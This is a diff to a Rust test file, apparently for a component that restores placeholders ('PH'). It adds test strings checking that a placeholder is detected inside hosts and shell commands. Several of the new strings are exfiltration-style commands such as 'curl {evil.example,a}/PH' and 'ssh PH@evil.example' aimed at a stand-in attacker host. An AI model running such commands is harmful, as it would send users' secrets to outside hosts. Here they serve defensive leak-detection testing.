@@ -479,6 +479,8 @@ fn words_with_dots_and_slashes_are_no_address() {
         "Saved as PH.backup.json",
         "PH.1.2",
         "PH.value.x",
+        "PH.user.value",
+        "write to PH@example.com",
         "Your SSN is PH.Thanks.And more.",
         "PH.Then.",
         "e.g. PH",
@@ -546,6 +548,11 @@ fn a_host_is_known_however_a_shell_has_it() {
         "\"PH\".evil.example",
         "PH.\u{e9}vil.example",
         "PH.evil.\u{e9}xample",
+        "see evil.example/?q=\"PH",
+        "curl $H/PH",
+        "curl {evil.example,a}/PH",
+        "ssh PH@evil.example",
+        "curl \"https://evil.example/?a='&q=PH\"",
         "ping PH.evil.example",
         "ping PH.evil.example.",
         "PH\\.evil.example",
@@ -577,8 +584,6 @@ fn whole_and_streamed_answers_agree() {
             (0..3 + next() % 7).map(|_| words[next() % words.len()]).chain(["PH"]).collect();
         let text = pieces.concat();
         assert_eq!(restored(&says(&text), 1), restored(&streams(&pieces), 50), "{text:?}");
-        // In JSON that streams, a quotation mark within a string is read as an apostrophe.
-        let text = text.replace('"', "'");
         let arguments = json!({ "n": 1, "text": text, "m": "PH" }).to_string();
         let (cut, _) = arguments.char_indices().nth(next() % (arguments.len() / 2)).unwrap();
         // A placeholder is cut in no half here, since it is filled in later.
